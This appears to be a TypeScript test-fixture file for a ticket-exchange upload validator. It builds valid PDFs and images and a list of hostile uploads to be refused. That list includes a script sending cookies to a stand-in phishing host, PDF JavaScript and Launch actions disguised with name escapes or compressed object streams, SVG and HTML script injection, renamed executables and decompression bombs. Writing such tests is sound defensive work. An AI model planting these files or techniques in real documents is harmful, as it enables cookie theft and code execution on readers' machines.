import { randomBytes } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** Test files made in code: the good ones a ticket or avatar upload must take, and the hostile ones it must refuse. */

export function pdf(body = '1 0 obj<</Type/Catalog>>endobj'): Buffer {
  return Buffer.from(`%PDF-1.4\n${body}\n% ${randomBytes(16).toString('hex')}\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
}

/**
 * A PDF whose objects live in one Flate-compressed object stream (as PDF 1.5 writers do): object 1 is the
 * catalog, the others follow; none of their bytes appear in the file as written.
 */
export function pdfWithObjectStream(catalog: string, ...others: string[]): Buffer {
  const objects = [catalog, ...others];
  let offset = 0;
  const index = objects.map((body, number) => {
    const entry = `${number + 1} ${offset}`;
    offset += body.length + 1;
    return entry;
  });
  const header = `${index.join(' ')}\n`;
  const content = deflateSync(Buffer.from(header + objects.join('\n') + '\n', 'latin1'));
  const stream = `${objects.length + 1} 0 obj<</Type/ObjStm/N ${objects.length}/First ${header.length}/Filter/FlateDecode/Length ${content.length}>>stream\n`;
  return Buffer.concat([Buffer.from(`%PDF-1.5\n${stream}`, 'latin1'), content, Buffer.from(`\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1')]);
}

/** What a seller really uploads: a page of text, an embedded picture of the barcode and a link to the organiser. */
export async function ticketPdf(pictureBytes = 2_048): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([595, 842]);
  const font = await document.embedFont(StandardFonts.Helvetica);
  page.drawText('Baltic Ticket Exchange · Row 7, Seat 12 · Arena Riga', { x: 50, y: 780, size: 14, font });
  const picture = await document.embedJpg(jpegWithPayload(640, 200, pictureBytes));
  page.drawImage(picture, { x: 50, y: 500, width: 320, height: 100 });
  const link = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, 760, 300, 780], Border: [0, 0, 0], A: { S: 'URI', URI: PDFString.of('https://organiser.example/events/42') } });
  page.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(link)]));
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

/** A PNG whose header says width × height; the pixel data is one compressed row, whatever the size claims. */
export function png(width: number, height: number): Buffer {
  return pngWithRows(width, height, 1);
}

/** A PNG of width × height black pixels that an image library decodes whole (`png` carries one row of pixels only). */
export function blackPng(width: number, height: number): Buffer {
  return pngWithRows(width, height, height);
}

function pngWithRows(width: number, height: number, rows: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc((width * 3 + 1) * rows))), chunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG with a JFIF header and a baseline frame of width × height. */
export function jpeg(width: number, height: number): Buffer {
  return jpegWithPayload(width, height, 64);
}

function jpegWithPayload(width: number, height: number, payloadBytes: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const frame = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, frame, randomBytes(payloadBytes), Buffer.from([0xff, 0xd9])]);
}

/** Each hostile file with what it pretends to be. */
export function hostileFiles(): { label: string; bytes: Buffer; name: string; type: string }[] {
  return [
    { label: 'renamed Windows executable', bytes: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), randomBytes(512)]), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'renamed ELF executable', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), randomBytes(512)]), name: 'ticket.png', type: 'image/png' },
    { label: 'PDF/HTML polyglot', bytes: pdf('<html><body><script>document.location="https://phish.example/"+document.cookie</script></body></html>'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF that runs JavaScript when opened', bytes: pdf('1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF whose JavaScript open action sits in a compressed object stream', bytes: pdfWithObjectStream('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/JavaScript/JS(app.alert(1))>>'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF that spells JavaScript with #xx name escapes', bytes: pdf('1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF page whose open action (/AA) launches a program, escaped', bytes: pdf('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/L#61unch/F(cmd.exe)>>>>>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF that launches a program when opened', bytes: pdf('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(calc.exe)>>>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF carrying an embedded file in an object stream', bytes: pdfWithObjectStream('<</Type/Catalog/Names<</EmbeddedFiles<</Names[(invoice.exe) 2 0 R]>>>>>>', '<</Type/Filespec/F(invoice.exe)/EF<</F 3 0 R>>>>', '<</Type/EmbeddedFile/Length 0>>'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF with a RichMedia (Flash) annotation, lower-case escape', bytes: pdf('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/Annots[<</Type/Annot/Subtype/Rich#4dedia/Rect[0 0 100 100]>>]>>endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF with an XFA form', bytes: pdf('1 0 obj<</Type/Catalog/AcroForm<</Fields[]/XFA 2 0 R>>>>endobj 2 0 obj<</Length 7>>stream\n<xdp/>\nendstream endobj'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF form field that runs JavaScript, compressed', bytes: pdfWithObjectStream('<</Type/Catalog/AcroForm<</Fields[2 0 R]>>>>', '<</FT/Tx/T(seat)/AA<</K<</S/JavaScript/JS(this.submitForm("https://evil.example"))>>>>>>'), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF link to a javascript: address, hex-encoded', bytes: pdf(`1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI<${Buffer.from('javascript:alert(1)').toString('hex')}>>>>>]>>endobj`), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'corrupt PDF (a header, then noise)', bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(4096)]), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PNG with HTML appended', bytes: Buffer.concat([png(10, 10), Buffer.from('<script>alert(1)</script>')]), name: 'ticket.png', type: 'image/png' },
    { label: 'SVG with script', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), name: 'ticket.png', type: 'image/svg+xml' },
    { label: 'HTML page', bytes: Buffer.from('<!doctype html><html><script>alert(1)</script></html>'), name: 'ticket.pdf', type: 'text/html' },
    { label: 'decompression bomb PNG (100,000 × 100,000)', bytes: png(100_000, 100_000), name: 'ticket.png', type: 'image/png' },
    { label: 'decompression bomb JPEG (65,000 × 65,000)', bytes: jpeg(65_000, 65_000), name: 'ticket.jpg', type: 'image/jpeg' },
    { label: 'zero bytes', bytes: Buffer.alloc(0), name: 'ticket.pdf', type: 'application/pdf' },
    { label: 'PDF with junk before its header', bytes: Buffer.concat([Buffer.from('<html>'), pdf()]), name: 'ticket.pdf', type: 'application/pdf' },
  ];
}
